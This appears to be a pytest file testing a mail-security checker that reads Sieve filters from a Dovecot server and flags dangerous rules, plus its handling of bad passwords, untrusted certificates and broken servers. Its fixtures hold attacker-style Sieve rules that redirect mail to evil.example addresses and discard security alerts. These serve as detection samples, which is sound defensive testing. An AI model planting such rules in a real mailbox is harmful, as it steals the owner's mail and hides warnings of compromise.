"""mail.sieve against a real Dovecot with Pigeonhole on loopback, and a server that misbehaves."""

from __future__ import annotations

from pathlib import Path

import pytest

from checks.mail.checks import SieveFilters
from checks.mail.sources.managesieve import ManageSieve
from cybercheck.errors import SourceError
from cybercheck.pipeline.model import Severity, Status
from cybercheck.testing import run
from tests.servers.mail_sieve import FakeSieve

MAIN = """require ["copy", "fileinto", "imap4flags"];
# everything from the bank, quietly
if address :domain "from" "bank.example" {
    redirect "watcher@evil.example";
}
if anyof (header :contains "subject" ["security alert", "sign-in"], address :is "from" "no-reply@accounts.google.com") {
    discard;
    stop;
}
if address :is "from" "office@solicitor.example" {
    fileinto "Old Stuff";
}
redirect :copy "copies@evil.example";
"""
OLD = 'redirect "old@evil.example";\n'
EXPECTED = [
    ("mail.rule.forwards-external", Severity.HIGH, "A rule forwards mail to copies@evil.example"),
    ("mail.rule.forwards-external", Severity.HIGH, "A rule forwards mail to watcher@evil.example"),
    ("mail.rule.hides-security", Severity.URGENT, "A rule hides security mail"),
    ("mail.rule.hides-sender", Severity.MEDIUM, "A rule hides mail from office@solicitor.example"),
]

pytestmark = pytest.mark.needs_server("dovecot")


def _run(server, **inputs):  # type: ignore[no-untyped-def]
    password = inputs.pop("password", server.password)
    given = {
        "imap": f"127.0.0.1:{server.imap_port}",
        "imap-user": server.user,
        "sieve-port": str(server.sieve_port),
    }
    return run(SieveFilters, inputs={**given, **inputs}, secrets={"imap": password}, timeout=30.0)


def test_the_active_script_is_judged_and_the_inactive_one_listed(dovecot) -> None:  # type: ignore[no-untyped-def]
    dovecot.upload({"main": MAIN, "old": OLD}, active="main")
    result = _run(dovecot)
    assert sorted((f.code, f.severity, f.subject) for f in result.findings) == EXPECTED
    assert '"old" (present but not active, so not judged)' in result.looked_at[0]
    assert '"main" (active)' in result.looked_at[0]
    copy = next(f for f in result.findings if "copies@" in f.subject)
    assert "(keeps a copy)" in copy.evidence[0].fields["actions"]
    assert 'redirect :copy "copies@evil.example";' in copy.evidence[0].fields["as the provider holds it"]
    assert not result.gaps  # "Old Stuff" was known as a trash folder from IMAP SPECIAL-USE


def test_a_forward_in_an_included_script_is_read_from_the_server(dovecot) -> None:  # type: ignore[no-untyped-def]
    scripts = {
        "hidden": 'redirect "Watcher <watcher@evil.example>";\n',
        "main": 'require "include";\ninclude :personal "hidden";\ninclude :optional "absent";\n',
    }
    dovecot.upload(scripts, active="main")  # the included script first: Pigeonhole checks includes
    result = _run(dovecot)
    assert [(f.code, f.subject) for f in result.findings] == [
        ("mail.rule.forwards-external", "A rule forwards mail to watcher@evil.example")
    ]
    assert '"hidden" (included by the active script, so judged with it)' in result.looked_at[0]
    assert 'Sieve script "hidden", included from' in result.findings[0].evidence[0].source
    assert result.status is Status.FOUND and not result.gaps


def test_implicit_tls_reads_the_same(dovecot) -> None:  # type: ignore[no-untyped-def]
    dovecot.upload({"main": MAIN}, active="main")
    result = _run(dovecot, **{"sieve-port": str(dovecot.sieves_port), "sieve-tls": "implicit"})
    assert len(result.findings) == 4, (result.gaps, result.problem, result.looked_at)


def test_without_imap_folders_are_judged_by_name(dovecot) -> None:  # type: ignore[no-untyped-def]
    dovecot.upload({"main": MAIN}, active="main")
    result = _run(dovecot, imap="127.0.0.1:1")
    assert result.status is Status.FOUND
    assert any("usual names" in gap for gap in result.gaps)
    assert "mail.rule.hides-sender" not in {f.code for f in result.findings}  # "Old Stuff" looks ordinary


def test_no_active_script_is_clean_and_says_so(dovecot) -> None:  # type: ignore[no-untyped-def]
    dovecot.upload({"old": OLD}, active=None)
    result = _run(dovecot)
    assert result.status is Status.CLEAN
    assert any("No Sieve script is active" in text for text in result.looked_at)


def test_a_wrong_password_is_plain_and_incomplete(dovecot) -> None:  # type: ignore[no-untyped-def]
    result = _run(dovecot, password="not-the-password-99")
    assert result.status is Status.INCOMPLETE
    assert "did not accept the user name or password" in result.gaps[0]
    assert "not-the-password-99" not in repr(result)


def test_an_untrusted_certificate_stops_before_the_password(dovecot, monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    other = tmp_path / "other-ca.pem"
    other.write_text("")
    monkeypatch.setenv("SSL_CERT_FILE", str(other))
    monkeypatch.setenv("SSL_CERT_DIR", str(tmp_path))
    log_before = (dovecot.folder / "dovecot.log").read_text()
    result = _run(dovecot)
    assert result.status is Status.INCOMPLETE
    assert "certificate" in result.gaps[0] and "no password was sent" in result.gaps[0]
    new_log = (dovecot.folder / "dovecot.log").read_text()[len(log_before) :]
    assert "Login: user=" not in new_log


def test_a_server_closing_mid_listing_is_plain_and_incomplete(dovecot) -> None:  # type: ignore[no-untyped-def]
    with FakeSieve(dovecot.cert, dovecot.key, "close-mid-listing") as fake:
        result = _run(dovecot, **{"sieve-port": str(fake.port)})
    assert result.status is Status.INCOMPLETE
    assert "closed the connection" in result.gaps[0]
    assert dovecot.password not in repr(result)


def test_garbage_and_silence_are_plain_errors(dovecot) -> None:  # type: ignore[no-untyped-def]
    for fail in ("garbage", "silent"):
        with FakeSieve(dovecot.cert, dovecot.key, fail) as fake:
            client = ManageSieve("127.0.0.1", fake.port, timeout=1.0)
            with pytest.raises(SourceError) as caught:
                client.connect()
            client.close()
        assert caught.value.plain.endswith(".")


def test_the_password_never_reaches_a_report(dovecot) -> None:  # type: ignore[no-untyped-def]
    from datetime import datetime, timezone

    from cybercheck.report import renderer
    from cybercheck.report.build import build_report

    dovecot.upload({"main": MAIN}, active="main")
    results = [_run(dovecot), _run(dovecot, password="wrong-password-123")]
    report = build_report(results, generated_at=datetime.now(timezone.utc), country="GB")
    for name in ("terminal", "md", "html", "json"):
        text = renderer(name)(report)
        assert dovecot.password not in text and "wrong-password-123" not in text
